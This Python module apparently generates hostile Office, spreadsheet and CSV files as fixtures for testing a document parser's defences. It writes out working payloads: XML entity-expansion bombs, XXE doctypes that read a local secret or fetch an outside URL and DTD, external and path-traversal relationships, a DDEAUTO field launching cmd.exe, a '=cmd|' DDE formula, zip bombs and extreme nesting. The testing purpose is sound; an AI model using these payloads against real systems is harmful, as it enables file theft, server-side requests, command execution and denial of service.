"""Packages of Office made to harm: entities in every part, relations that lead out, numbers and nesting beyond reason."""

from __future__ import annotations

from collections.abc import Iterator, Mapping
from io import BytesIO
from zipfile import ZipFile

from hostile_archives import zipped
from hostile_case import REPORT, Hostile, Place

__all__ = ["docx", "forbidden", "packages", "sheet_of", "xlsx"]

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
S = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE = "http://schemas.openxmlformats.org/package/2006"
NAMES = (f'xmlns:w="{W}" xmlns:r="{R}" xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" '
         'xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing" '
         'xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture" xmlns:v="urn:schemas-microsoft-com:vml"')
HEAD = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
P = "<w:p><w:r><w:t>{}</w:t></w:r></w:p>"
BODY = "".join(P.format(line) for line in REPORT.splitlines())
TABLE = ("<w:tbl>" + "".join("<w:tr>" + "".join(f"<w:tc>{P.format(cell)}</w:tc>" for cell in row) + "</w:tr>" for row in
         [("三级指标", "年度指标值", "实际完成值"), ("新建水厂", "12座", "11座"), ("受益人口", "3.5万人", "3.6万人")]) + "</w:tbl>")
BOMB = ('<!DOCTYPE x [<!ENTITY a "一二三四五六七八九十">' + "".join(
        f'<!ENTITY {name} "{f"&{before};" * 10}">' for before, name in zip("abcdefghi", "bcdefghij", strict=True)) + "]>")


def related(items: Mapping[str, tuple[str, str, str]]) -> str:
    """The .rels of {id: (kind, target, mode)}."""
    return f'{HEAD}<Relationships xmlns="{PACKAGE}/relationships">' + "".join(
        f'<Relationship Id="{id_}" Type="{R}/{kind}" Target="{target}"{f" TargetMode={chr(34)}{mode}{chr(34)}" if mode else ""}/>'
        for id_, (kind, target, mode) in items.items()) + "</Relationships>"


def types(main: str, kind: str) -> str:
    """The [Content_Types].xml of a package whose body is in the part `main`."""
    said = {"xl/worksheets/sheet1.xml": "spreadsheetml.worksheet", "xl/sharedStrings.xml": "spreadsheetml.sharedStrings",
            "xl/styles.xml": "spreadsheetml.styles"} if main.startswith("xl/") else {}
    parts = "".join(f'<Override PartName="/{path}" ContentType="application/vnd.openxmlformats-officedocument.{name}+xml"/>'
                    for path, name in {main: f"{kind}.main", **said}.items())
    return (f'{HEAD}<Types xmlns="{PACKAGE}/content-types"><Default Extension="rels" '
            'ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" '
            f'ContentType="application/xml"/>{parts}</Types>')


def docx(body: str = BODY + TABLE, *, parts: Mapping[str, bytes | str] | None = None,
         relations: Mapping[str, tuple[str, str, str]] | None = None) -> bytes:
    """A docx with every part that is read and some that are not; `parts` replace or add."""
    def story(root: str, inner: str) -> str:
        return f"{HEAD}<w:{root} {NAMES}>{inner}</w:{root}>"

    note = '<w:{} w:id="7">' + P.format("注") + "</w:{}>"
    known = {"styles": "styles.xml", "numbering": "numbering.xml", "footnotes": "footnotes.xml", "endnotes": "endnotes.xml",
             "comments": "comments.xml", "settings": "settings.xml", "header": "header1.xml", "footer": "footer1.xml",
             "theme": "theme/theme1.xml", "fontTable": "fontTable.xml"}
    links = {kind: (kind, target, "") for kind, target in known.items()} | dict(relations or {})
    said = "".join(f'<w:r><w:{kind}Reference w:id="7"/></w:r>' for kind in ("footnote", "endnote", "comment"))
    number = '<w:pPr><w:numPr><w:ilvl w:val="0"/><w:numId w:val="1"/></w:numPr></w:pPr>'
    body += f"<w:p>{number}<w:r><w:t>见注</w:t></w:r>{said}</w:p>"
    section = '<w:sectPr><w:headerReference w:type="default" r:id="header"/><w:footerReference w:type="default" r:id="footer"/></w:sectPr>'
    files: dict[str, bytes | str] = {
        "[Content_Types].xml": types("word/document.xml", "wordprocessingml.document"),
        "_rels/.rels": related({"r": ("officeDocument", "word/document.xml", ""), "c": ("core", "docProps/core.xml", "")}),
        "word/_rels/document.xml.rels": related(links),
        "word/document.xml": story("document", f"<w:body>{body}{section}</w:body>"),
        "word/styles.xml": story("styles", '<w:style w:type="paragraph" w:styleId="a"><w:name w:val="Normal"/></w:style>'),
        "word/numbering.xml": story("numbering", '<w:abstractNum w:abstractNumId="0"><w:lvl w:ilvl="0"><w:start w:val="1"/>'
                                    '<w:numFmt w:val="decimal"/><w:lvlText w:val="%1."/></w:lvl></w:abstractNum>'
                                    '<w:num w:numId="1"><w:abstractNumId w:val="0"/></w:num>'),
        "word/footnotes.xml": story("footnotes", note.format("footnote", "footnote")),
        "word/endnotes.xml": story("endnotes", note.format("endnote", "endnote")),
        "word/comments.xml": story("comments", note.format("comment", "comment")),
        "word/settings.xml": story("settings", ""), "word/fontTable.xml": story("fonts", ""),
        "word/header1.xml": story("hdr", P.format("页眉")), "word/footer1.xml": story("ftr", P.format("页脚")),
        "word/theme/theme1.xml": f'{HEAD}<a:theme xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"/>',
        "docProps/app.xml": f"{HEAD}<Properties><Pages>1</Pages></Properties>",
        "docProps/core.xml": f"{HEAD}<coreProperties><title>题</title></coreProperties>",
    }
    return zipped(files | dict(parts or {}))


def sheet_of(inner: str) -> str:
    return f'{HEAD}<worksheet xmlns="{S}" xmlns:r="{R}">{inner}</worksheet>'


ROWS = '<sheetData><row r="1"><c r="A1" t="s"><v>0</v></c><c r="B1" t="s"><v>1</v></c></row><row r="2"><c r="A2" t="inlineStr">' \
       '<is><t>新建水厂</t></is></c><c r="B2" s="1"><v>0.95</v></c></row></sheetData>'


def xlsx(sheet: str = ROWS, *, parts: Mapping[str, bytes | str] | None = None,
         relations: Mapping[str, tuple[str, str, str]] | None = None) -> bytes:
    """An xlsx with every part that is read; `parts` replace or add."""
    links = {"sheet": ("worksheet", "worksheets/sheet1.xml", ""), "shared": ("sharedStrings", "sharedStrings.xml", ""),
             "styles": ("styles", "styles.xml", "")} | dict(relations or {})
    files: dict[str, bytes | str] = {
        "[Content_Types].xml": types("xl/workbook.xml", "spreadsheetml.sheet"),
        "_rels/.rels": related({"r": ("officeDocument", "xl/workbook.xml", "")}),
        "xl/_rels/workbook.xml.rels": related(links),
        "xl/workbook.xml": f'{HEAD}<workbook xmlns="{S}" xmlns:r="{R}"><sheets><sheet name="自评表" sheetId="1" r:id="sheet"/>'
                           "</sheets></workbook>",
        "xl/worksheets/sheet1.xml": sheet_of(sheet),
        "xl/worksheets/_rels/sheet1.xml.rels": related({"c": ("comments", "../comments1.xml", "")}),
        "xl/comments1.xml": f'{HEAD}<comments xmlns="{S}"><commentList><comment ref="A1"><text><t>批注</t></text></comment>'
                            "</commentList></comments>",
        "xl/sharedStrings.xml": f'{HEAD}<sst xmlns="{S}"><si><t>指标</t></si><si><t>完成率</t></si></sst>',
        "xl/styles.xml": f'{HEAD}<styleSheet xmlns="{S}"><cellXfs><xf numFmtId="0"/><xf numFmtId="10"/></cellXfs></styleSheet>',
        "docProps/app.xml": f"{HEAD}<Properties/>",
    }
    return zipped(files | dict(parts or {}))


def forbidden(place: Place, *, root: str = "x") -> dict[str, str]:
    """Document types by what they are after: an entity that grows, files and addresses from outside, by every way there is."""
    return {
        "bomb": BOMB,
        "file": f'<!DOCTYPE {root} [<!ENTITY j SYSTEM "{place.secret}">]>',
        "http": f'<!DOCTYPE {root} [<!ENTITY j SYSTEM "{place.url}/entity">]>',
        "dtd": f'<!DOCTYPE {root} SYSTEM "{place.url}/dtd" [<!ENTITY % k SYSTEM "{place.url}/parameter"> %k; <!ENTITY j "">]>',
    }


def poisoned(text: str, doctype: str) -> str:
    """A part with the document type, and the entity used in its first text and, where it is its own, in its root."""
    declared, _, rest = text.partition("?>")
    rest = rest.replace("</w:t>", "&j;</w:t>", 1).replace("</t>", "&j;</t>", 1)
    if "&j;" not in rest and "</" in rest:
        at = rest.rindex("</")
        rest = f"{rest[:at]}&j;{rest[at:]}"
    return f"{declared}?>{doctype}{rest}"


def entities(place: Place) -> Iterator[Hostile]:
    for kind, data in {"docx": docx(), "xlsx": xlsx()}.items():
        with ZipFile(BytesIO(data)) as archive:
            parts = {path: archive.read(path).decode() for path in archive.namelist()}
        for path, text in parts.items():
            for way, doctype in forbidden(place).items():
                yield Hostile(name=f"{kind} {way} in {path.replace('/', ' ')}", file=f"a.{kind}",
                              data=zipped({**parts, path: poisoned(text, doctype)}),
                              says="DOCTYPE" if path.rpartition("/")[2] in READ else "")
        main = "word/document.xml" if kind == "docx" else "xl/worksheets/sheet1.xml"
        for encoding in ("utf-16", "utf-32", "cp037", "utf-7"):
            text = poisoned(parts[main], forbidden(place)["file"]).replace("UTF-8", {"cp037": "IBM037"}.get(encoding, encoding))
            yield Hostile(name=f"entity in {encoding} {kind}", file=f"a.{kind}", ends="refused",
                          data=zipped({**parts, main: text.encode(encoding, "xmlcharrefreplace")}))


READ = {"document.xml", "styles.xml", "numbering.xml", "footnotes.xml", "endnotes.xml", "header1.xml", "footer1.xml",
        "document.xml.rels", "workbook.xml", "workbook.xml.rels", "sheet1.xml", "sharedStrings.xml", "comments1.xml"}


def outward(place: Place) -> Iterator[Hostile]:
    """Relations and fields that lead out of the package."""
    url, secret = place.url, place.secret
    for n, (target, mode) in enumerate([(f"{url}/r", "External"), (f"{url}/r", ""), (secret, "External"), (secret, ""),
                                        ("../../../../../../" + secret.partition("///")[2], ""), ("\\\\127.0.0.1\\share\\r", "External")]):
        kinds = ("header", "footer", "image", "attachedTemplate", "oleObject", "subDocument", "hyperlink", "aFChunk", "styles",
                 "numbering", "footnotes", "frame")
        body = BODY + TABLE + ('<w:p><w:r><w:drawing><wp:inline><a:graphic><a:graphicData><pic:pic><pic:blipFill>'
                               '<a:blip r:link="image" r:embed="image"/></pic:blipFill></pic:pic></a:graphicData></a:graphic>'
                               '</wp:inline></w:drawing></w:r></w:p><w:altChunk r:id="aFChunk"/><w:subDoc r:id="subDocument"/>')
        field = "".join('<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>' + code + "</w:instrText></w:r>"
                        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>' for code in
                        (f'INCLUDEPICTURE "{target}"', f'INCLUDETEXT "{target}"', 'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k"'))
        yield Hostile(name=f"relations {n} docx", file="a.docx", data=docx(
            body + field, relations={kind: (kind, target, mode) for kind in kinds}), ends="read", shows="执行率95%")
        links = {kind: (kind, target, mode) for kind in ("externalLink", "connections", "oleObject", "drawing")}
        yield Hostile(name=f"relations {n} xlsx", file="a.xlsx", data=xlsx(
            '<sheetData><row r="1"><c r="A1" t="str"><f>[1]Sheet1!A1</f><v>指标</v></c><c r="B1"><f>WEBSERVICE("'
            f'{url}/f")</f><v>95</v></c></row><row r="2"><c r="A2" t="str"><v>水厂</v></c><c r="B2"><v>9</v></c></row></sheetData>',
            relations=links), ends="read", shows="指标")
    yield Hostile(name="relation main outside", file="a.docx", data=docx(
        parts={"_rels/.rels": related({"r": ("officeDocument", f"{url}/doc", "External")})}), shows="执行率95%")
    yield Hostile(name="relations in a ring", file="a.docx", data=docx(
        relations={"header": ("header", "document.xml", ""), "footer": ("footer", "footer1.xml", "")},
        parts={"word/_rels/footer1.xml.rels": related({"footer": ("footer", "footer1.xml", "")})}), shows="执行率95%")


def numbered(count: int, form: str, text: str = "%1.") -> bytes:
    numbering = (f'{HEAD}<w:numbering {NAMES}><w:abstractNum w:abstractNumId="0"><w:lvl w:ilvl="0"><w:start w:val="{count}"/>'
                 f'<w:numFmt w:val="{form}"/><w:lvlText w:val="{text}"/></w:lvl></w:abstractNum><w:num w:numId="1">'
                 '<w:abstractNumId w:val="0"/></w:num></w:numbering>')
    item = '<w:p><w:pPr><w:numPr><w:ilvl w:val="0"/><w:numId w:val="1"/></w:numPr></w:pPr><w:r><w:t>项目</w:t></w:r></w:p>'
    return docx(BODY + item * 3, parts={"word/numbering.xml": numbering})


def beyond(place: Place) -> Iterator[Hostile]:
    """Nesting, counts and sizes beyond reason."""
    many = 40_000
    nestings = {"runs": ("<w:r>", "</w:r>"), "inserted": ('<w:ins w:id="1">', "</w:ins>"), "tagged": ("<w:smartTag>", "</w:smartTag>"),
                "controlled": ("<w:sdt><w:sdtContent>", "</w:sdtContent></w:sdt>"), "tables": ("<w:tbl><w:tr><w:tc>", "</w:tc></w:tr></w:tbl>")}
    for kind, (begin, end) in nestings.items():
        for depth in (60, many):
            body = P.format("前") + (f"<w:p>{begin * depth}<w:r><w:t>深</w:t></w:r>{end * depth}</w:p>" if kind != "tables" else
                                    begin * depth + P.format("深") + end * depth) + P.format("后")
            yield Hostile(name=f"docx {kind} {depth} deep", file="a.docx", data=docx(body))
    yield Hostile(name="docx runs in a row", file="a.docx", data=docx(
        BODY + "<w:p>" + "<w:r><w:t>一</w:t></w:r>" * many + "</w:p>"), ends="read", shows="执行率95%")
    yield Hostile(name="docx cells in a row", file="a.docx", data=docx(
        BODY + "<w:tbl><w:tr>" + "<w:tc><w:p/></w:tc>" * many + "</w:tr></w:tbl>"), shows="执行率95%")
    yield Hostile(name="docx rows", file="a.docx", data=docx(
        BODY + "<w:tbl>" + f"<w:tr><w:tc>{P.format('9')}</w:tc></w:tr>" * 8_000 + "</w:tbl>"), shows="执行率95%")
    for n in (10**9, 10**30, -5, 0):
        yield Hostile(name=f"docx span {n}", file="a.docx", data=docx(BODY + TABLE.replace(
            "<w:tc>", f'<w:tc><w:tcPr><w:gridSpan w:val="{n}"/></w:tcPr>', 1)), shows="执行率95%")
    for form in ("decimal", "upperRoman", "lowerLetter", "chineseCountingThousand", "ideographTraditional", "none"):
        yield Hostile(name=f"docx numbers {form}", file="a.docx", data=numbered(10**12, form), shows="执行率95%")
    yield Hostile(name="docx number text", file="a.docx", data=numbered(10**9, "upperRoman", "%1" * 10_000), shows="执行率95%")
    yield Hostile(name="docx number digits", file="a.docx", data=numbered(int("9" * 4000), "decimal"), shows="执行率95%")
    styles = "".join(f'<w:style w:type="paragraph" w:styleId="{a}"><w:name w:val="{a}"/><w:basedOn w:val="{b}"/></w:style>'
                     for a, b in ("ab", "ba"))
    ring = f"{HEAD}<w:styles {NAMES}>{styles}</w:styles>"
    yield Hostile(name="docx styles in a ring", file="a.docx", ends="read", shows="执行率95%", data=docx(
        BODY.replace("<w:p>", '<w:p><w:pPr><w:pStyle w:val="a"/></w:pPr>'), parts={"word/styles.xml": ring}))
    yield Hostile(name="docx bomb", file="a.docx", ends="refused", says="压缩炸弹",
                  data=docx(parts={"word/document.xml": HEAD.encode() + b" " * 130_000_000}))
    yield Hostile(name="docx bomb beside", file="a.docx", data=docx(parts={"word/media/a.bin": bytes(100_000_000)}), shows="执行率95%")
    yield Hostile(name="docx dense", file="a.docx", data=docx(BODY + P.format("") * 20_000), shows="执行率95%")
    yield Hostile(name="docm with macros", file="a.docm", shows="执行率95%",
                  data=docx(parts={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0" + bytes(999)}))


def sheets(place: Place) -> Iterator[Hostile]:
    def cells(*values: str, how: str = ' t="str"') -> str:
        return "<sheetData>" + "".join(f'<row r="{n}"><c r="A{n}" t="str"><v>水厂{n}</v></c><c r="B{n}"{how}>{value}</c></row>'
                                       for n, value in enumerate(values, 1)) + "</sheetData>"

    def value(text: str) -> str:
        return f"<v>{text}</v>"

    harm = {
        "merged all": ROWS + '<mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>',
        "merged often": ROWS + "<mergeCells>" + '<mergeCell ref="A1:ZZ999"/>' * 5000 + "</mergeCells>",
        "merged nonsense": ROWS + '<mergeCells><mergeCell ref="A0:"/><mergeCell ref="ZZZZZZZZZZ9:A99999999999999999999"/></mergeCells>',
        "far corner": '<sheetData><row r="1"><c r="A1"><v>1</v></c></row><row r="1048576"><c r="XFD1048576"><v>2</v></c></row></sheetData>',
        "beyond the corner": '<sheetData><row r="99999999999"><c r="ZZZZZZZZ99999999999"><v>1</v></c><c r="A1"><v>2</v></c></row></sheetData>',
        "row no number": '<sheetData><row r="-1"><c r="!"><v>1</v></c></row><row r="x"><c r=""><v>3</v></c></row></sheetData>',
        "cells in a row": "<sheetData><row>" + "<c><v>1</v></c>" * 100_000 + "</row></sheetData>",
        "million cells": "<sheetData>" + ("<row>" + "<c><v>1</v></c>" * 1000 + "</row>") * 301 + "</sheetData>",
        "shared nowhere": cells(value("999999999999"), value("-1"), value("x"), how=' t="s"'),
        "style nowhere": cells(value("1"), value("2"), how=' s="99999999999"'),
        "numbers": cells(*map(value, ("1e308", "1e99999", "-1e-999", "nan", "inf", "1e10000000", "0x1F", "9" * 30_000))),
        "numbers plain": cells(*map(value, ("1e308", "1e99999", "nan", "inf", "1e10000000", "9" * 30_000)), how=' s="1"'),
        "deep": "<sheetData>" + "<row>" * 100_000 + "</row>" * 100_000 + "</sheetData>",
        "wide dimension": '<dimension ref="A1:XFD1048576"/><cols><col min="1" max="999999999" width="1"/></cols>' + ROWS,
    }
    for name, sheet in harm.items():
        yield Hostile(name=f"xlsx {name}", file="a.xlsx", data=xlsx(sheet))
    for name, code in {"signs": "#" * 50_000, "zeros": "0" * 50_000, "commas": "," * 50_000, "quotes": '"' * 49_999, "sections": ";" * 50_000,
                       "brackets": "[" * 50_000, "fraction": "?" * 3000 + "/" + "?" * 3000, "date": "y" * 50_000, "colour": "[Red]" * 9000,
                       "exponent": "0E+" + "0" * 9000, "percent": "%" * 9000 + "0"}.items():
        styles = (f'{HEAD}<styleSheet xmlns="{S}"><numFmts><numFmt numFmtId="200" formatCode="{code.replace(chr(34), "&quot;")}"/></numFmts>'
                  '<cellXfs><xf numFmtId="0"/><xf numFmtId="200"/></cellXfs></styleSheet>')
        yield Hostile(name=f"xlsx format {name}", file="a.xlsx", data=xlsx(
            cells(value("1234.5"), value("-1"), value("1e300"), value("44000"), how=' s="1"'), parts={"xl/styles.xml": styles}))
    again = (f'{HEAD}<workbook xmlns="{S}" xmlns:r="{R}"><sheets>'
             + "".join(f'<sheet name="{n}" sheetId="{n}" r:id="sheet"/>' for n in range(600)) + "</sheets></workbook>")
    yield Hostile(name="xlsx one sheet 600 times", file="a.xlsx", data=xlsx(parts={"xl/workbook.xml": again}))
    formulas = ('=HYPERLINK("http://127.0.0.1/x","点")', "=cmd|'/C calc'!A0", "+1+1", "-2+3", "@SUM(1)", "\t=1+1")
    rows = "".join(f'<row><c t="str"><v>指标{n}</v></c><c t="str"><f>1+1</f><v>{text.replace("&", "&amp;").replace("<", "&lt;")}</v></c></row>'
                   for n, text in enumerate(formulas))
    yield Hostile(name="xlsx formulas", file="a.xlsx", data=xlsx(f"<sheetData>{rows}</sheetData>"), ends="read", shows="=cmd")
    yield Hostile(name="csv formulas", file="a.csv", data=("指标,目标,实际\n" + "".join(
        f'"{text.replace(chr(34), chr(34) * 2)}",1,2\n' for text in formulas)).encode(), ends="read", shows="=cmd")
    yield Hostile(name="xlsb", file="a.xlsb.xlsx", data=zipped({"xl/workbook.bin": b"\x83\x01\x00", "xl/a.xml": "<a/>"}), ends="refused")


def packages(place: Place) -> Iterator[Hostile]:
    yield from outward(place)
    yield from beyond(place)
    yield from sheets(place)
